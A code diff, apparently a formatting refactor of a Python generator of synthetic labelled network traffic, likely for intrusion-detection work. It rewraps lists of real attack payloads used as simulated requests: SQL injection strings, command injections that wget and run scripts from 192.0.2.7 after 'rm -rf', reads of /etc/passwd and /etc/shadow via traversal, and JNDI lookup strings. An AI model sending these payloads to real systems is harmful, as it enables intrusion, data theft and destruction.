@@ -89,7 +89,8 @@ def from_address(scene, lossy=False):
     port = scene.random.choice(PORTS)
     host = server.text.encode() + (b":%d" % port if port != 80 else b"")
     for time in scene.times(scene.random.randint(1, 4), 30):
-        target = scene.random.choice((b"/a.exe", b"/bins/mips", b"/x86_64", b"/dl?id=7", b"/u/%d" % scene.random.randrange(99)))
+        target = scene.random.choice((b"/a.exe", b"/bins/mips", b"/x86_64", b"/dl?id=7",
+                                      b"/u/%d" % scene.random.randrange(99)))
         fetch(scene, time, client, server, target, host, b"application/octet-stream", port=port)
     if lossy:
         lose_bodies(scene, server)
@@ -108,9 +109,10 @@ def report_home(scene, gap, count=(2, 12), one_way=False):
     agent = scene.random.choice(AGENTS)
     for time in scene.times(scene.random.randint(*count), gap, 0.8):
         connection = Connection(scene.lan, time, client, server, port)
-        connection.client(payload.http_request(b"POST", path, host, agent, (b"Content-Type: " + kind,),
-                                               scene.random.randbytes(scene.random.randint(40, 2000))))
-        connection.server(payload.http_answer(200, b"text/html", scene.random.randbytes(scene.random.randint(0, 90))))
+        data = scene.random.randbytes(scene.random.randint(40, 2000))
+        connection.client(payload.http_request(b"POST", path, host, agent, (b"Content-Type: " + kind,), data))
+        answer = scene.random.randbytes(scene.random.randint(0, 90))
+        connection.server(payload.http_answer(200, b"text/html", answer))
         connection.close()
     if one_way:
         scene.lose(lambda frame: frame[26:30] == server.address)
@@ -119,9 +121,10 @@ def report_home(scene, gap, count=(2, 12), one_way=False):
 
 # --- scans ---
 
-WORDLIST = ("admin", "backup", "login", "test", "old", "config", "db", "phpmyadmin", "api", "upload", "private", "cgi-bin",
-            "server-status", "wp-admin", "wp-login", "shell", "console", "manager", "setup", "install", "dump", "data", "logs",
-            "tmp", "secret", "users", "include", "lib", "scripts", "vendor", "webdav", "portal", "panel", "dev", "staging")
+WORDLIST = ("admin", "backup", "login", "test", "old", "config", "db", "phpmyadmin", "api", "upload", "private",
+            "cgi-bin", "server-status", "wp-admin", "wp-login", "shell", "console", "manager", "setup", "install",
+            "dump", "data", "logs", "tmp", "secret", "users", "include", "lib", "scripts", "vendor", "webdav",
+            "portal", "panel", "dev", "staging")
 ENDINGS = ("", "/", ".php", ".bak", ".zip", ".txt", ".html", ".asp", ".old", ".sql", "~", ".jsp")
 NAMED = (
     b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)",
@@ -186,11 +189,14 @@ def scan_named(scene):
 
 # --- injections ---
 
-SQL = (b"/item.php?id=1%20AND%204283=4283", b"/item.php?id=1'%20OR%20'1'='1", b"/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL--+",
-       b"/item.php?id=1)%20AND%20SLEEP(5)", b"/item.php?id=1;WAITFOR%20DELAY%20'0:0:5'--", b"/item.php?id=1/**/uNiOn/**/sElEcT/**/1",
-       b"/item.php?name=admin'--%20", b"/item.php?id=1%20ORDER%20BY%207--", b"/item.php?id=1+and+extractvalue(1,concat(0x7e,version()))",
+SQL = (b"/item.php?id=1%20AND%204283=4283", b"/item.php?id=1'%20OR%20'1'='1",
+       b"/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL--+", b"/item.php?id=1)%20AND%20SLEEP(5)",
+       b"/item.php?id=1;WAITFOR%20DELAY%20'0:0:5'--", b"/item.php?id=1/**/uNiOn/**/sElEcT/**/1",
+       b"/item.php?name=admin'--%20", b"/item.php?id=1%20ORDER%20BY%207--",
+       b"/item.php?id=1+and+extractvalue(1,concat(0x7e,version()))",
        b"/item.php?id=1'%20AND%20(SELECT%201%20FROM%20information_schema.tables)='1")
-COMMANDS = (b"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/a.sh;sh+/tmp/a.sh", b"/cgi-bin/ping.cgi?host=1.1.1.1;cat%20/etc/passwd",
+COMMANDS = (b"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/a.sh;sh+/tmp/a.sh",
+            b"/cgi-bin/ping.cgi?host=1.1.1.1;cat%20/etc/passwd",
             b"/cgi-bin/;wget${IFS}http://192.0.2.7/m", b"/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
             b"/setup.cgi?todo=x&cmd=`curl%20http://192.0.2.7/x`", b"/cgi?c=$(wget%20-O-%20http://192.0.2.7/x)")
 TRAVERSALS = (b"/download?file=../../../../etc/passwd", b"/static/..%2f..%2f..%2f..%2fetc/shadow",
@@ -203,7 +209,8 @@ LOOKUPS = (b"${jndi:ldap://192.0.2.7:1389/a}", b"${${lower:j}ndi:${lower:l}dap:/
 def inject(scene, targets, count=(1, 4)):
     client, server = scanner_of(scene)
     for time in scene.times(scene.random.randint(*count), 3, 0.9):
-        request(scene, time, client, server, scene.random.choice(targets), AGENTS[1], scene.random.choice((200, 404, 403)))
+        status = scene.random.choice((200, 404, 403))
+        request(scene, time, client, server, scene.random.choice(targets), AGENTS[1], status)
     scene.suspect(client, "injection")
 
 
